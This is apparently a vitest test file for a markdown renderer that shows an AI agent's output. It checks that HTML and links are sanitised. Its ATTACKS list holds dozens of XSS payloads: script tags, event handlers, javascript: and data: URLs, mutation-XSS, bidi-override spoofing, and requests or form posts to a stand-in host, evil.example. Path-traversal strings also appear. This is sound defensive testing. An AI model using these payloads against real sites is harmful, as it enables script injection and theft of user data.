import { describe, expect, it } from "vitest";
import { htmlOf, renderMarkdown } from "./html.ts";
import { codeBlock, filePath, safeHref } from "./render.ts";

/** The tags and attributes that may stand in what we make. */
const TAGS = new Set(
  "a b blockquote br button code del div em h2 h3 h4 h5 h6 hr i li ol p pre span strong table tbody td th thead tr ul".split(" "),
);
const ATTRIBUTES = new Set("href target rel title class tabindex role aria-label start type".split(" "));

/** All tags with their attributes, read as a browser would. */
function tagsOf(html: string): { name: string; attributes: [string, string][] }[] {
  return [...html.matchAll(/<([a-z][a-z\d]*)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(([, name = "", rest = ""]) => ({
    name,
    attributes: [...rest.matchAll(/([a-z-]+)(?:="([^"]*)")?/gi)].map(([, key = "", value = ""]) => [key, value]),
  }));
}

function expectHarmless(source: string): string {
  const html = renderMarkdown(source, { fileHref: (path) => `/s/s1/files/${encodeURIComponent(path)}` });
  const withoutTags = html.replace(/<\/?[a-z][^<>]*>/gi, "");
  expect(withoutTags).not.toMatch(/[<>]/);
  for (const { name, attributes } of tagsOf(html)) {
    expect(TAGS, `tag ${name} of ${source}`).toContain(name);
    for (const [key, value] of attributes) {
      expect(ATTRIBUTES, `attribute ${key} of ${source}`).toContain(key);
      if (key === "href") expect(value).toMatch(/^(https?:\/\/|mailto:|\/s\/s1\/files\/)/);
    }
  }
  expect(html).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  return html;
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/pixel.png>",
  "<svg onload=alert(1)><script>1</script></svg>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<style>*{display:none}</style>",
  "<base href=https://evil.example/><form action=https://evil.example/><input name=token>",
  "<div style=\"position:fixed;inset:0\">over everything</div>",
  "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
  "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "[x](//evil.example/a)",
  "[x](\\\\evil.example\\a)",
  "[x](../../etc/passwd)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/pixel.png)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![\"><img src=x onerror=alert(1)>](https://example.org/a.png)",
  "[\"><script>alert(1)</script>](https://example.org/\"onmouseover=\"alert(1))",
  "[x](https://example.org \"title\\\" onmouseover=\\\"alert(1)\")",
  "[a]: javascript:alert(1)\n\n[a]",
  "```\"><script>alert(1)</script>\ncode\n```",
  "```html\n<script>alert(1)</script>\n```",
  "``<script>alert(1)</script>``",
  "| <script>alert(1)</script> | b |\n|--|--|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x202E;gnp.exe &#8238; &#0; &#27;[31m",
  "user\u202egnp.exe\u2066 isolated \u2069",
  "a\u0000b\u001b[31mred\u0008\u009b",
  "# <img src=x onerror=alert(1)>",
  "- <script>alert(1)</script>\n- [ ] <b onclick=alert(1)>x</b>",
  "> <script>alert(1)</script>",
  "<!-- --!> <img src=x onerror=alert(1)> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version=\"1.0\"?><script>alert(1)</script>",
  "<x-y onclick=alert(1)>",
  "<a\u000bhref=javascript:alert(1)>x</a>",
  "http://example.org/\"onmouseover=alert(1)",
  "https://evil.example<script>alert(1)</script>",
  `<${"div ".repeat(5000)}>`,
  "[".repeat(2000),
  "*".repeat(3000),
  ">".repeat(500) + " deep",
];

describe("Markdown of an agent", () => {
  it.each(ATTACKS)("does no harm: %s", (attack) => {
    expectHarmless(attack);
    expectHarmless(`Some text ${attack} more text`);
    expectHarmless(`- item\n\n  ${attack}\n`);
  });

  it("shows tags as they were written", () => {
    expect(renderMarkdown("Use the <Foo> component")).toBe("<p>Use the &lt;Foo&gt; component</p>");
    expect(renderMarkdown("a<br>b")).toContain("<br>");
  });

  it("makes foreign images links", () => {
    const html = renderMarkdown("![a cat](https://example.org/cat.png)");
    expect(html).not.toContain("<img");
    expect(html).toContain('<a href="https://example.org/cat.png" target="_blank" rel="noopener noreferrer nofollow"');
    expect(html).toContain("Image: a cat");
  });

  it("leads to files of the session", () => {
    const options = { fileHref: (path: string) => `/s/s1/files/${path}` };
    expect(renderMarkdown("[main](src/main.rs#L4)", options)).toContain('href="/s/s1/files/src/main.rs"');
    expect(renderMarkdown("[main](src/main.rs)")).not.toContain("href");
  });

  it("knows the usual things", () => {
    expect(renderMarkdown("**b** *i* ~~s~~ `c`")).toBe("<p><strong>b</strong> <em>i</em> <del>s</del> <code>c</code></p>");
    expect(renderMarkdown("AT&amp;T &copy; &unknown;")).toBe("<p>AT&amp;T © &amp;unknown;</p>");
    expect(renderMarkdown("- [x] done")).toContain("☑");
    expect(renderMarkdown("# One")).toContain('<h2 class="heading-1">');
  });

  it("takes a line of a megabyte", () => {
    expect(renderMarkdown("x".repeat(1_000_000))).toContain("x".repeat(1_000_000));
    expect(renderMarkdown("word ".repeat(200_000))).toContain("word word");
  }, 30_000);
});

describe("addresses", () => {
  it("are pages and mail only", () => {
    expect(safeHref("https://example.org/a?b#c")).toBe("https://example.org/a?b#c");
    expect(safeHref("mailto:a@example.org")).toBe("mailto:a@example.org");
    for (const bad of ["javascript:1", " javascript:1", "java\tscript:1", "data:,x", "/api/logout", "#x", "https://", "ftp://x"]) {
      expect(safeHref(bad)).toBeUndefined();
    }
  });

  it("of files stay below the directory", () => {
    expect(filePath("./a/b.md:12")).toBe("a/b.md");
    for (const bad of ["/etc/passwd", "../x", "a/../../x", "c:\\x", "#top", "?q", "\\\\host\\share", "javascript:1"]) {
      expect(filePath(bad)).toBeUndefined();
    }
  });
});

describe("codeBlock", () => {
  it("takes only a name of a language from the fence", () => {
    expect(htmlOf(codeBlock("x", 'c++ "><script>'))).toContain('class="language-c++"');
    expect(htmlOf(codeBlock("x", '"><script>'))).toContain('class="language-script"');
  });
});
